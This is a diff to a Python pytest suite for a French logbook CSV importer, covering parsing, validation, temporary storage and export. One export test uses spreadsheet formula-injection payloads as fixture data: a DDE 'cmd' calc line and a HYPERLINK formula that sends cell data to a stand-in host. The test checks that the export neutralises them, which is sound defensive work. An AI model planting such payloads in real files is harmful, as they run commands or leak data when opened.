@@ -4,8 +4,11 @@ idempotence, the command line, the export -> import round trip and a 20,000-row 
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import random
+import tempfile
 import time
 from pathlib import Path
 
@@ -13,7 +16,7 @@ import pytest
 from sqlalchemy import func, select
 
 from lib import db, importers, logbook
-from lib.errors import PermissionDenied
+from lib.errors import NotFound, PermissionDenied
 from lib.importers import ImportFormatError, Target
 from lib.models import Category, Defi, GlobalRole, LogEntry, Promotion, User
 from lib.permissions import Actor
@@ -24,6 +27,24 @@ from tests.fixtures import password_hash
 DATA = Path(__file__).resolve().parents[1] / "data"
 LEGACY = (DATA / "legacy_journal.csv").read_bytes()
 C = Category
+
+
+TODAY = dt.date(2026, 11, 20)
+DEFAULT_STORE = importers.STORE
+
+
+@pytest.fixture(autouse=True)
+def store(tmp_path, monkeypatch):  # noqa: ANN001, ANN201
+    """Each test's analysed files in its own folder, gone with it."""
+    monkeypatch.setattr(importers, "STORE", tmp_path / "store")
+
+
+def parse(data: bytes | str, today: dt.date = TODAY) -> tuple[list[importers.ParsedRow], list[importers.Problem], int]:
+    """Rows, problems and the number of records (valid rows and lines in error)."""
+    items = list(importers.read_logbook(data, today))
+    rows = [i for i in items if isinstance(i, importers.ParsedRow)]
+    problems = [i for i in items if isinstance(i, importers.Problem)]
+    return rows, problems, len(rows) + len({p.line for p in problems if p.severity == "error"})
 
 
 def counts() -> tuple[int, int]:
@@ -42,7 +63,7 @@ def rows_of(defi_id: int) -> list[tuple]:
 
 
 def test_parser_reads_every_legacy_quirk_with_physical_line_numbers():
-    rows, problems, records = importers.parse_logbook(LEGACY)
+    rows, problems, records = parse(LEGACY)
     by_line = {r.line: r for r in rows}
     assert records == 13
     assert sorted(by_line) == [2, 3, 4, 6, 7, 8, 14, 17, 18]
@@ -61,7 +82,7 @@ def test_parser_reads_every_legacy_quirk_with_physical_line_numbers():
     report = [(p.line, p.severity, p.message) for p in problems]
     assert report == [
         (6, "warning", report[0][2]),
-        (9, "error", "tâche vide"),
+        (9, "error", "Tâche : Ce champ est obligatoire."),
         (10, "error", report[2][2]),
         (11, "error", report[3][2]),
         (12, "error", "valeur OK inconnue « 2 » (attendu 1, -1, 0 ou vide)"),
@@ -73,7 +94,7 @@ def test_parser_reads_every_legacy_quirk_with_physical_line_numbers():
 
 
 def test_line_numbers_hold_with_windows_line_endings():
-    rows, problems, _ = importers.parse_logbook(LEGACY.replace(b"\n", b"\r\n"))
+    rows, problems, _ = parse(LEGACY.replace(b"\n", b"\r\n"))
     assert [r.line for r in rows] == [2, 3, 4, 6, 7, 8, 14, 17, 18]
     assert rows[2].tache == 'Rédaction du "guide" utilisateur\r\nsur deux lignes'
     assert [p.line for p in problems] == [6, 9, 10, 11, 12, 17]
@@ -81,12 +102,12 @@ def test_line_numbers_hold_with_windows_line_endings():
 
 def test_wrong_header_is_refused_before_anything_else():
     with pytest.raises(ImportFormatError, match="Défi,Livrable,Tâche,Fait le,Cat,OK"):
-        importers.parse_logbook((DATA / "bad_header.csv").read_bytes())
+        parse((DATA / "bad_header.csv").read_bytes())
 
 
 def test_semicolons_and_windows_1252_files_are_read():
     text = "Défi;Livrable;Tâche;Fait le;Cat;OK\nAlpha;;Réunion d'équipe;<2018-02-15 jeu.>;M;1\n"
-    rows, problems, _ = importers.parse_logbook(text.encode("cp1252"))
+    rows, problems, _ = parse(text.encode("cp1252"))
     assert problems == [] and rows[0].tache == "Réunion d'équipe" and rows[0].label == "Alpha"
 
 
@@ -112,7 +133,7 @@ def test_preview_groups_spellings_matches_defis_and_writes_nothing(world):
                                                    "Données Ouvertes": 1}
     assert groups["Données ouvertes"].defi_id is None
     assert groups["Gamma lab"].defi_id is None  # Gamma is in another promotion
-    assert (preview.records, len(preview.rows), preview.errors) == (13, 9, 4)
+    assert (preview.records, preview.valid, preview.errors) == (13, 9, 4)
 
 
 @pytest.mark.parametrize("player", ["eig", "porteur", "sponsor", "outsider"])
@@ -196,7 +217,7 @@ def test_command_line_dry_run_then_import(world, capsys):
     assert importers.main(["logbook", path, "--promotion", "Promo test", "--dry-run"]) == 0
     out = capsys.readouterr().out
     assert "13 ligne(s) lue(s), 9 valide(s), 4 en erreur" in out
-    assert "ligne 9 [erreur, ligne ignorée] tâche vide" in out
+    assert "ligne 9 [erreur, ligne ignorée] Tâche : Ce champ est obligatoire." in out
     assert "9 entrée(s) ajoutée(s), 0 déjà présente(s) ignorée(s), 2 défi(s) créé(s)" in out
     assert "rien n'a été écrit" in out
     assert counts() == (0, 3)
@@ -211,17 +232,25 @@ def test_command_line_dry_run_then_import(world, capsys):
 # --- Export -> import round trip into an empty database -------------------------------------------
 
 
-def test_export_then_import_into_an_empty_database_gives_the_same_entries(world, request, tmp_path, monkeypatch):
+def test_export_starts_no_formula_and_imports_into_an_empty_database_as_the_same_entries(
+        world, request, tmp_path, monkeypatch):
     now = dt.datetime(2026, 11, 20, 12, tzinfo=dt.UTC)
     for day, livrable, tache, cats, news in [
         (dt.date(2026, 5, 4), "API, v1", 'Écrit "la" doc\nsur deux lignes', [C.A, C.P], 1),
         (dt.date(2026, 5, 4), "", "Tronqué...", [C.U], -1),
         (dt.date(2026, 6, 1), "Données", "  espaces et ; points-virgules ", [C.D, C.M, C.T], 0),
+        (dt.date(2026, 6, 2), "+cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"clic")', [C.P], 1),
+        (dt.date(2026, 6, 3), "@SUM(1)", "-2+3", [C.P], -1),
+        (dt.date(2026, 6, 4), "'=déjà", "- liste\n=2", [C.P], 0),
+        (dt.date(2026, 6, 5), "-3", "'texte entre apostrophes'", [C.P], 0),
     ]:
         logbook.add_entry(world.eig, world.alpha_id, LogEntryIn(done_on=day, livrable=livrable, tache=tache,
                                                                 categories=cats, news=news), now=now)
     exported = logbook.export_csv(world.coach, world.alpha_id)
     original = [r[:5] for r in rows_of(world.alpha_id)]
+    cells = [c for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")) for c in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@") and c not in ("-1", "-3")] == []
+    assert "'=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")" in cells and "''=déjà" in cells and "-3" in cells
 
     kind = "sqlite" if db.get_engine().url.get_backend_name() == "sqlite" else "postgresql"
     (tmp_path / "empty").mkdir()
@@ -280,8 +309,98 @@ def test_large_file_imports_in_one_transaction(world, tmp_path):
     backend = db.get_engine().url.get_backend_name()
     print(f"\n[{backend}] 20,000 rows: parse+preview {parsed - started:.2f} s, import {imported - parsed:.2f} s, "
           f"re-import (all duplicates) {reimported - imported:.2f} s")
-    assert (preview.records, len(preview.rows), preview.problems) == (20_000, 20_000, [])
+    assert (preview.records, preview.valid, preview.problems) == (20_000, 20_000, [])
     assert (result.inserted, result.created_defis) == (20_000, ["Données ouvertes", "Nouveau défi"])
-    assert len(calls) == 21 and calls[-1] == 20_000
+    assert len(calls) == 20 and calls[-1] == 20_000
     assert (again.inserted, again.duplicates) == (0, 20_000)
     assert counts()[0] == 20_000
+
+
+# --- No silent loss, bounded memory ----------------------------------------------------------------
+
+HEADER = "Défi,Livrable,Tâche,Fait le,Cat,OK\n"
+
+
+def test_an_open_quote_is_reported_on_its_line_and_the_rows_it_swallowed_are_read_again():
+    rows = [f"Alpha,,Tâche {i},2018-01-02,P,1\n" for i in range(2000)]
+    text = HEADER + 'Alpha,,"Guillemet jamais refermé,2018-01-01,P,1\n' + "".join(rows) + "Beta,,Fin,2018-01-03,M,\n"
+    valid, problems, records = parse(text)
+    assert [(p.line, p.severity) for p in problems] == [(2, "error")]
+    assert "guillemet ouvert sur cette ligne et jamais refermé" in problems[0].message
+    assert "lignes 3 à 2003" in problems[0].message
+    assert [r.line for r in valid] == list(range(3, 2004))  # every physical line is accounted for
+    assert records == 2002 and valid[-1].tache == "Fin"
+
+
+def test_quote_errors_are_french_and_on_their_line():
+    text = HEADER + 'Alpha,,"Tâche" en trop,2018-01-01,P,1\nAlpha,,Bonne,2018-01-02,P,1\nAlpha,,"Sans fin,2018-01-03,P,'
+    valid, problems, _ = parse(text)
+    assert [r.tache for r in valid] == ["Bonne"]
+    assert [(p.line, p.message.split(",")[0].split(" :")[0]) for p in problems] == [
+        (2, "guillemets mal placés"), (4, "guillemet ouvert sur cette ligne et jamais refermé avant la fin du fichier")]
+
+
+def test_a_cell_over_the_csv_limit_is_a_french_error_on_its_line():
+    text = HEADER + f"Alpha,,{'x' * 200_000},2018-01-01,P,1\nAlpha,,Suivante,2018-01-02,P,1\n"
+    valid, problems, _ = parse(text)
+    assert [(p.line, p.message) for p in problems] == [
+        (2, "cellule de plus de 131\u202f072 caractères : ligne illisible")]
+    assert [r.tache for r in valid] == ["Suivante"]
+
+
+@pytest.mark.parametrize(("cells", "message"), [
+    ("Alpha,,Tâche,0001-01-01,P,", "Fait le : Choisissez une date entre le 01/01/2000 et le 31/12/2099."),
+    ("Alpha,,Tâche,<9999-12-31 ven.>,P,", "Fait le : Choisissez une date entre le 01/01/2000 et le 31/12/2099."),
+    ("Alpha,,Tâche,2027-01-04,P,", "Fait le : La date ne peut pas être dans le futur."),
+    ("Alpha,,avant\x00après,2018-01-01,P,", "Tâche : Caractère invisible non autorisé (U+0000)"),
+    ("Alpha,\x1b[31mrouge,Tâche,2018-01-01,P,", "Livrable : Caractère invisible non autorisé (U+001B)"),
+    ("Al\x07pha,,Tâche,2018-01-01,P,", "Défi : Caractère invisible non autorisé (U+0007)"),
+    (f"Alpha,{'l' * 201},Tâche,2018-01-01,P,", "Livrable : 200 caractères au maximum (201 saisis)."),
+], ids=["year 1", "year 9999", "future", "NUL", "ESC", "BEL in défi", "long livrable"])
+def test_imported_rows_obey_the_journal_form_rules(world, cells, message):
+    data = HEADER + cells + "\nAlpha,,Bonne,2018-01-02,P,1\n"
+    now = dt.datetime(2026, 11, 20, tzinfo=dt.UTC)
+    preview = importers.preview_logbook(world.coach, data, world.promotion_id, now=now)
+    assert [(p.line, p.message[:len(message)]) for p in preview.problems] == [(2, message)]
+    result = importers.confirm_import(world.coach, preview, importers.plan(preview))  # NUL used to fail PostgreSQL
+    assert result.inserted == 1 and [r[2] for r in rows_of(world.alpha_id)] == ["Bonne"]
+
+
+def test_a_duplicated_header_column_is_refused():
+    with pytest.raises(ImportFormatError, match="la colonne « Tâche » apparaît deux fois"):
+        parse("Défi,Livrable,Tâche,Fait le,Cat,OK,Tâche\nAlpha,,Ici,2018-01-01,P,1,Là\n")
+
+
+def test_command_line_names_a_missing_file_in_french_with_exit_code_2(world, tmp_path, capsys):
+    missing = str(tmp_path / "absent.csv")
+    assert importers.main(["logbook", missing, "--promotion", "Promo test"]) == 2
+    assert capsys.readouterr().err == f"Fichier introuvable : {missing}\n"
+    assert importers.main(["logbook", str(tmp_path), "--promotion", "Promo test"]) == 2
+    assert capsys.readouterr().err == f"Fichier illisible : {tmp_path}\n"
+
+
+def test_the_preview_is_small_and_its_rows_wait_in_a_temporary_file_until_discarded(world, tmp_path):
+    path = tmp_path / "large.csv"
+    write_large_file(path)
+    with path.open("rb") as handle:  # streamed from the file, as the command line does
+        preview = importers.preview_logbook(world.coach, handle, world.promotion_id, "large.csv")
+    assert preview.valid == 20_000 and not hasattr(preview, "rows")
+    assert len(preview.model_dump_json()) < 5_000  # what the page keeps in the session
+    stored = importers.STORE / f"{preview.token}.rows.jsonl"
+    assert stored.stat().st_mode & 0o777 == 0o600 and Path(tempfile.gettempdir()) / "suivi-imports" == DEFAULT_STORE
+    assert sum(1 for _ in importers.stored_rows(preview)) == 20_000
+    importers.discard(preview)
+    assert not stored.exists()
+    with pytest.raises(NotFound, match="L'analyse de ce fichier a expiré"):
+        importers.confirm_import(world.coach, preview, importers.plan(preview))
+    assert counts()[0] == 0
+
+
+def test_every_bad_line_is_in_the_report_though_the_preview_shows_the_first_ones(world):
+    data = HEADER + "".join("Alpha,,,2018-01-01,P,\n" for _ in range(1500)) + "Alpha,,Bonne,2018-01-02,P,\n"
+    preview = importers.preview_logbook(world.coach, data, world.promotion_id)
+    assert (preview.errors, preview.valid, len(preview.problems)) == (1500, 1, importers.SHOWN_PROBLEMS)
+    report = importers.format_report(preview, importers.plan(preview))
+    assert "Problèmes (1500) :" in report
+    assert all(f"ligne {n} [erreur, ligne ignorée]" in report for n in range(2, 1502))
+    importers.discard(preview)
